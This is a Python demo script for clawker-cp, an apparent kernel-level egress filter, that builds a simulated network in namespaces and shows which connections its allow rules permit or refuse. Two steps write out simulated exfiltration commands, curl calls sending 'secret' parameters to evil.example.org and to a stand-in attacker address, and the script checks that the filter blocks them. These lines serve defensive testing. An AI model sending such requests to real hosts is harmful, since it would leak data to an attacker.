"""
The tour behind `make run`: the main job of this program, on real traffic, in a few seconds.

`python -m clawker_cp.demo` builds an Internet and a machine of its own in network namespaces, so that
it needs no connection and changes nothing here, runs `clawker-cp run` on that machine, and checks what
happened against what the far end saw. Exits 0 if all was as explained, 1 if not, 3 if it cannot run.
"""

from __future__ import annotations

import asyncio
import os
import shlex
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

import click

from clawker_cp.runtime.runner import run_main

if TYPE_CHECKING:
    from clawker_cp.testing.world import HostNamespace, World

NOT_SUPPORTED = 3
INTERRUPTED = 130
STEP_LIMIT_S = 90.0
TOOLS = {
    "ip": "iproute2", "nft": "nftables", "bwrap": "bubblewrap", "curl": "curl", "bash": "bash",
    "nsenter": "util-linux", "unshare": "util-linux", "setpriv": "util-linux",
}  # fmt: skip
EVIL = "203.0.113.66"
# HTTP/1.1: this curl reports a complete HTTP/2 refusal as a broken stream when it was still sending.
_CURL = ("curl", "--http1.1", "-s", "-m", "10", "-o", "/dev/null")
_ANSWER = "HTTP %{http_code} %{method} %{url}\\n"
_FAILURE = "curl says: %{errormsg}\\n"


@dataclass(frozen=True, slots=True)
class Step:
    """One run: what it shows, what it allows, what it runs, and the exit code of that."""

    title: str
    text: str
    options: tuple[str, ...]
    command: tuple[str, ...]
    exit_code: int


STEPS = (
    Step(
        "An allowed name",
        "The command may reach one name over HTTPS. It knows nothing of a proxy; its connection is sent\n"
        "through one by the kernel, which looks at the name inside before anything leaves.",
        ("--allow", "api.example.com"),
        (*_CURL, "-w", _ANSWER, "https://api.example.com/"),
        0,
    ),
    Step(
        "A name that nobody allowed",
        "The same rules, another name: its address is not even told. The line says who refused and why,\n"
        "the summary which option would allow it.",
        ("--allow", "api.example.com"),
        (*_CURL, "-w", _FAILURE, "https://evil.example.org/?secret=1"),
        6,
    ),
    Step(
        "A path and a method",
        "Reading below /v1/ is allowed. Another path of the same server, and writing, are answered with 403\n"
        "by the proxy and never reach it.",
        ("--allow", "GET https://api.example.com/v1/"),
        (
            *_CURL, "-w", _ANSWER, "https://api.example.com/v1/models",
            "--next", *_CURL[1:], "-w", _ANSWER, "https://api.example.com/admin",
            "--next", *_CURL[1:], "-w", _ANSWER, "-d", "x", "https://api.example.com/v1/models",
        ),
        0,
    ),
    Step(
        "A database, by name",
        "Any TCP protocol works, here one that echoes. The rule holds for one port of one name.",
        ("--allow", "tcp://db.example.com:5432"),
        ("bash", "-c", "exec 3<>/dev/tcp/db.example.com/5432; echo 'a query' >&3; head -n 1 <&3"),
        0,
    ),
    Step(
        "Around the name, straight to an address",
        f"Malware does not ask for names. {EVIL} answers HTTP to everybody, yet the connection is refused in\n"
        "the kernel at connect(), without a packet.",
        ("--allow", "api.example.com"),
        (*_CURL, "-w", _FAILURE, f"http://{EVIL}/?secret=2"),
        7,
    ),
    Step(
        "Which rules does a program need?",
        "--learn lets everything through, records it, and prints the rules that would have sufficed.",
        ("--learn",),
        (*_CURL, "-w", _ANSWER, "https://api.example.com/v1/models", "-o", "/dev/null", "http://www.example.com/"),
        0,
    ),
)  # fmt: skip

# Everything that the far end may see of all steps, and has to.
ARRIVES = (
    "GET api.example.com/",
    "GET api.example.com/v1/models",
    "GET api.example.com/v1/models",
    "GET www.example.com/",
    "database: a query",
)


def missing() -> list[str]:
    """
    What this host lacks for the tour, one line each with the remedy.
    """
    lines = []
    if sys.platform != "linux":
        return ["Linux: the kernel decides here, and only Linux has cgroup eBPF"]
    if os.geteuid() != 0:
        lines.append("root: namespaces and eBPF need it; use `sudo make run`")
    lines += [f"{tool}: apt-get install {package}" for tool, package in TOOLS.items() if shutil.which(tool) is None]
    if not Path("/sys/kernel/btf/vmlinux").exists():
        lines.append("kernel type information: a kernel built with CONFIG_DEBUG_INFO_BTF (Debian's is)")
    if " - cgroup2 " not in Path("/proc/self/mountinfo").read_text(encoding="utf-8"):
        lines.append(
            "cgroup2: mount it with `mkdir -p /sys/fs/cgroup/unified && mount -t cgroup2 none /sys/fs/cgroup/unified`"
        )
    for module in ("asyncssh", "h2", "trustme", "websockets"):
        try:
            __import__(module)
        except ImportError:
            lines.append(f"the Python package {module}: pip install {module} (the tour's servers use it)")
    return lines


class Tour:
    """
    The steps on a machine and in a world of their own, and the count of those that went otherwise.
    """

    def __init__(self, host: HostNamespace, world: World) -> None:
        self._host = host
        self._world = world
        self._surprises: list[str] = []

    async def run(self) -> list[str]:
        """Run all steps; returns what was not as explained."""
        work = self._host.directory / "project"
        work.mkdir()
        os.chown(work, 1001, 1001)  # so that commands run as an ordinary user who may write here
        for number, step in enumerate(STEPS, 1):
            _heading(f"{number}. {step.title}", step.text)
            await self._step(step, str(work))
        await self._evidence()
        return self._surprises

    async def _step(self, step: Step, work: str) -> None:
        shown = ["clawker-cp", "run", *step.options, "--", *step.command]
        click.echo(click.style("$ " + shlex.join(shown), bold=_fancy()))
        sys.stdout.flush()
        argv = [sys.executable, "-m", "clawker_cp", "run", "--no-tty", *shown[2:]]
        process = await self._host.start(
            argv, cwd=work, env=self._host.environment(self._world), stdin=subprocess.DEVNULL, stderr=subprocess.STDOUT
        )
        try:
            async with asyncio.timeout(STEP_LIMIT_S):
                code = await process.wait()
        finally:
            if process.returncode is None:
                process.kill()
                await process.wait()
        click.echo(f"(exit code {code})")
        if code != step.exit_code:
            self._surprises.append(f"{step.title}: exit code {code}, expected {step.exit_code}")

    async def _evidence(self) -> None:
        _heading("What the far end saw", "Counted by the servers and a packet capture outside, not by clawker-cp:")
        connections = await self._world.connections()
        arrived = [
            f"{request['method']} {request['host']}{request['target']}"
            for connection in connections
            for request in connection["requests"]
        ]
        arrived += [f"database: {c['payload'].strip()}" for c in connections if c["service"] == "echo"]
        for item in arrived:
            click.echo(f"  arrived: {item}")
        questions = sorted({query["name"].lower() for query in await self._world.queries()})
        click.echo(f"  names asked for: {', '.join(questions)}")
        packets = sum(flow["packets"] for flow in await self._world.packets(dst=EVIL))
        click.echo(f"  packets to {EVIL}: {packets}")
        if packets or "evil.example.org" in questions:
            self._surprises.append("something reached the far end that was refused")
        if arrived != list(ARRIVES):
            self._surprises.append(f"exactly this should have arrived: {', '.join(ARRIVES)}")


def _fancy() -> bool:
    return sys.stdout.isatty() and "NO_COLOR" not in os.environ


def _heading(title: str, text: str) -> None:
    click.echo("\n" + click.style(title, bold=_fancy(), fg="cyan" if _fancy() else None))
    click.echo(text + "\n")


async def tour() -> list[str]:
    """
    Build both namespaces, run the tour, remove everything; returns what was not as explained.
    """
    from clawker_cp.testing.world import HostNamespace, World

    task = asyncio.current_task()
    if task is not None:
        for number in (signal.SIGTERM, signal.SIGHUP):
            asyncio.get_running_loop().add_signal_handler(number, task.cancel)
    async with HostNamespace() as host, World(host) as world:
        return await Tour(host, world).run()


def main(_argv: Sequence[str] = ()) -> int:
    """
    Run the tour and say how it ended.
    """
    lacking = missing()
    if lacking:
        click.echo("The tour cannot run here. Missing:", err=True)
        for line in lacking:
            click.echo(f"  {line}", err=True)
        return NOT_SUPPORTED
    started = time.monotonic()
    click.echo("clawker-cp decides in the kernel, by name, what a program can reach, and says what it decided.")
    click.echo("All of this happens in namespaces of its own, with an Internet made for the occasion.")
    try:
        surprises = run_main(tour())
    except (KeyboardInterrupt, asyncio.CancelledError):
        click.echo("\nInterrupted; everything is removed.", err=True)
        return INTERRUPTED
    _heading("Now your own program", "On this host, with your network. First see what it needs, then allow just that:")
    command = str(Path(sys.executable).parent / "clawker-cp")
    click.echo(f"  sudo {command} run --learn --learn-to rules.yaml -- YOUR-PROGRAM")
    click.echo(f"  sudo {command} run --rules rules.yaml -- YOUR-PROGRAM")
    click.echo(f"\nThe tour took {time.monotonic() - started:.0f} s and left nothing behind.")
    for surprise in surprises:
        click.echo(f"NOT AS EXPLAINED: {surprise}", err=True)
    return 1 if surprises else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
